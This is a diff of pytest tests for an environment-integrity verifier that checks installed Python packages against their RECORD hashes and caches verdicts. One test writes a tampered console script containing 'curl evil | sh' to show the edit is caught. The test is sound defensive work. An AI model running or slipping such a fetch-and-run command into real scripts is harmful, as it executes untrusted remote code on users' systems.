@@ -6,6 +6,8 @@ import base64
 import hashlib
 import os
 import sys
+import time
+from collections.abc import Iterator
 from importlib.machinery import EXTENSION_SUFFIXES
 from pathlib import Path
 
@@ -23,12 +25,20 @@ from tests.test_env_support import (
     write_swapped_pyc,
 )
 from trainguard.findings import Finding, ScanReport, Severity
+from trainguard.seal import env_walk
 from trainguard.seal.env_allow import load_allowlist
 from trainguard.seal.env_cache import DigestCache
 from trainguard.seal.environment import EnvOptions, verify_environment
 
+# site folder -> the cache a verify of it made before the test changed anything
+_WARM: dict[Path, str] = {}
+
 
 def verify(site: Path, **options: object) -> ScanReport:
+    """Verify ``site``; for the "warm" variant of a test, with the cache that a verify
+    of the untouched site left (so an unchanged re-verify would reuse its verdict)."""
+    if site in _WARM and "cache" not in options:
+        options["cache"] = DigestCache(_WARM[site])
     return verify_environment(EnvOptions(paths=[str(site)], **options)).report  # type: ignore[arg-type]
 
 
@@ -40,9 +50,25 @@ def rules_of(report: ScanReport) -> set[str]:
     return {f.rule for f in report.findings}
 
 
-@pytest.fixture()
-def site(tmp_path: Path) -> Path:
-    return fresh_site(tmp_path)
+@pytest.fixture(autouse=True)
+def no_racy_window(monkeypatch: pytest.MonkeyPatch) -> None:
+    """The sites here are copied a moment before they are verified; the racy window
+    (a file changed in the last 2 s is not remembered) would keep every cache empty."""
+    monkeypatch.setattr(env_walk, "RACY_NS", 0)
+
+
+@pytest.fixture(params=["cold", "warm"])
+def site(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Path]:
+    """A freshly installed site folder.  "warm": verified once before the test changes
+    it, so every tamper test also proves that a cached verdict never hides a change."""
+    folder = fresh_site(tmp_path)
+    if request.param == "warm":
+        cache_file = str(tmp_path / "warm-cache" / "env.json")
+        first = verify_environment(EnvOptions(paths=[str(folder)], cache=DigestCache(cache_file)))
+        assert first.stats.reused_from is None
+        _WARM[folder] = cache_file
+    yield folder
+    _WARM.pop(folder, None)
 
 
 def test_clean_install_verifies_clean(site: Path) -> None:
@@ -263,22 +289,109 @@ def test_allowlist_lowers_only_the_exact_content(tmp_path: Path, site: Path) -> 
     assert verify(site, allowlist=load_allowlist(str(allow))).exit_code() == 1
 
 
-def test_cache_speeds_up_but_never_hides_an_edit(tmp_path: Path, site: Path) -> None:
+def test_cache_speeds_up_but_never_hides_an_edit(tmp_path: Path) -> None:
+    site = fresh_site(tmp_path)
     cache_file = str(tmp_path / "cache" / "env.json")
     first = verify_environment(EnvOptions(paths=[str(site)], cache=DigestCache(cache_file)))
-    assert first.stats.cache_hits == 0
+    assert first.stats.cache_hits == 0 and first.stats.reused_from is None
+    # Nothing changed: the whole verdict is reused, without reading a file.
     again = verify_environment(EnvOptions(paths=[str(site)], cache=DigestCache(cache_file)))
-    assert again.stats.cache_hits > 0
-    assert again.stats.hashed_files == 0
+    assert again.stats.reused_from is not None
+    assert again.stats.reused_from <= time.time()
+    assert again.stats.hashed_files == 0 and again.stats.pycs_checked == 0
     assert again.report.exit_code() == 0
-    # Same size, mtime put back: only the ctime tells, and the cache keys on it.
+    assert again.report.findings == first.report.findings
+    assert [(r.path, r.format, r.size) for r in again.report.files] == [
+        (r.path, r.format, r.size) for r in first.report.files
+    ]
+    # Same size, mtime put back: only the ctime tells, and both caches key on it.
     optim = site / NAME / "optim.py"
     st = optim.stat()
     optim.write_text(FLIPPED_SOURCE)
     os.utime(optim, ns=(st.st_atime_ns, st.st_mtime_ns))
     assert optim.stat().st_size == st.st_size
-    report = verify(site, cache=DigestCache(cache_file))
-    assert by_rule(report, "TG601")
+    edited = verify_environment(EnvOptions(paths=[str(site)], cache=DigestCache(cache_file)))
+    assert edited.stats.reused_from is None
+    assert by_rule(edited.report, "TG601")
+    # Every other file's digest still came from the cache: only the edited one was read.
+    assert edited.stats.hashed_files == 1 and edited.stats.cache_hits > 0
+
+
+def test_files_changed_in_the_last_seconds_are_not_remembered(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(env_walk, "RACY_NS", 3600 * 10**9)  # every file is "just changed"
+    site = fresh_site(tmp_path)
+    cache_file = str(tmp_path / "cache" / "env.json")
+    for _ in range(2):
+        result = verify_environment(EnvOptions(paths=[str(site)], cache=DigestCache(cache_file)))
+        assert result.stats.reused_from is None and result.stats.cache_hits == 0
+        assert result.stats.hashed_files > 0
+
+
+def test_reused_verdict_gets_the_allowlist_of_today(tmp_path: Path) -> None:
+    site = fresh_site(tmp_path)
+    (site / NAME / "notes.txt").write_text("added after install\n")
+    cache_file = str(tmp_path / "cache" / "env.json")
+    first = verify_environment(EnvOptions(paths=[str(site)], cache=DigestCache(cache_file)))
+    (unlisted,) = by_rule(first.report, "TG603")
+    allow = tmp_path / "allow.toml"
+    allow.write_text(f'[[allow]]\nrule = "TG603"\npath = "{unlisted.file}"\nreason = "ours"\n')
+    options = EnvOptions(
+        paths=[str(site)], cache=DigestCache(cache_file), allowlist=load_allowlist(str(allow))
+    )
+    again = verify_environment(options)
+    assert again.stats.reused_from is not None
+    (allowed,) = by_rule(again.report, "TG603")
+    assert "ours" in allowed.evidence["allowed"]
+
+
+def test_verdict_is_per_options(tmp_path: Path) -> None:
+    site = fresh_site(tmp_path)
+    cache_file = str(tmp_path / "cache" / "env.json")
+    verify_environment(EnvOptions(paths=[str(site)], cache=DigestCache(cache_file)))
+    no_pyc = EnvOptions(paths=[str(site)], check_pyc=False, cache=DigestCache(cache_file))
+    assert verify_environment(no_pyc).stats.reused_from is None
+    # Each set of options keeps its own verdict: alternating does not evict the other.
+    default = EnvOptions(paths=[str(site)], cache=DigestCache(cache_file))
+    assert verify_environment(default).stats.reused_from is not None
+    no_pyc = EnvOptions(paths=[str(site)], check_pyc=False, cache=DigestCache(cache_file))
+    assert verify_environment(no_pyc).stats.reused_from is not None
+    # --full: the cache is written but nothing is read from it, the verdict included.
+    full = EnvOptions(paths=[str(site)], cache=DigestCache(cache_file, read=False))
+    assert verify_environment(full).stats.reused_from is None
+
+
+def test_record_row_outside_the_site_folder_is_watched_too(tmp_path: Path) -> None:
+    """A console script lives in ../bin: an edit there must end the reuse as well."""
+    site = fresh_site(tmp_path)
+    script = tmp_path / "bin" / "tgdemo-tool"
+    script.parent.mkdir()
+    script.write_text("#!/bin/sh\necho tool\n")
+    record = site / f"{NAME}-{VERSION}.dist-info" / "RECORD"
+    data = script.read_bytes()
+    record.write_text(record.read_text() + f"../bin/tgdemo-tool,{record_hash(data)},{len(data)}\n")
+    cache_file = str(tmp_path / "cache" / "env.json")
+    first = verify_environment(EnvOptions(paths=[str(site)], cache=DigestCache(cache_file)))
+    assert first.report.exit_code() == 0
+    again = verify_environment(EnvOptions(paths=[str(site)], cache=DigestCache(cache_file)))
+    assert again.stats.reused_from is not None
+    script.write_text("#!/bin/sh\ncurl evil | sh\n")
+    edited = verify_environment(EnvOptions(paths=[str(site)], cache=DigestCache(cache_file)))
+    assert edited.stats.reused_from is None
+    assert [f.file for f in by_rule(edited.report, "TG601")] == [str(script)]
+
+
+def test_linked_folder_is_never_fingerprinted(tmp_path: Path) -> None:
+    """The walk does not enter a linked folder, so it cannot tell whether its files changed."""
+    site = fresh_site(tmp_path)
+    outside = tmp_path / "elsewhere"
+    outside.mkdir()
+    (site / "linked").symlink_to(outside, target_is_directory=True)
+    cache_file = str(tmp_path / "cache" / "env.json")
+    for _ in range(2):
+        result = verify_environment(EnvOptions(paths=[str(site)], cache=DigestCache(cache_file)))
+        assert result.stats.reused_from is None
 
 
 def test_cache_is_ignored_when_others_can_write_it(tmp_path: Path, site: Path) -> None:
@@ -324,7 +437,8 @@ def test_read_error_on_a_listed_file_is_an_error_not_clean(
         return real(path, *args)  # type: ignore[arg-type]
 
     monkeypatch.setattr(env_hash, "hash_file", failing)
-    report = verify(site)
+    # No cache: the file is unchanged on disk, so a warm cache would never read it.
+    report = verify(site, cache=None)
     (dist,) = [r for r in report.files if r.error]
     assert "data.txt: Permission denied" in (dist.error or "")
     assert report.exit_code() == 2
@@ -370,3 +484,22 @@ def test_record_rows_in_sha512_are_verified(site: Path) -> None:
     data.write_bytes(b"other\n")
     (found,) = by_rule(verify(site), "TG601")
     assert found.evidence["record_sha512"] == hashlib.sha512(content).hexdigest()
+
+
+def test_cli_says_when_it_reused_a_verdict(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    from trainguard._cli import main
+
+    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "xdg"))
+    site = fresh_site(tmp_path)
+    argv = ["env", "verify", "--path", str(site), "--no-progress", "-f", "json"]
+    assert main(argv) == 0
+    first = capsys.readouterr()
+    assert "nothing has changed" not in first.err
+    assert main(argv) == 0
+    again = capsys.readouterr()
+    assert "nothing has changed since the verify of" in again.err
+    assert again.out == first.out  # the same report
+    assert main([*argv, "--full"]) == 0
+    assert "nothing has changed" not in capsys.readouterr().err
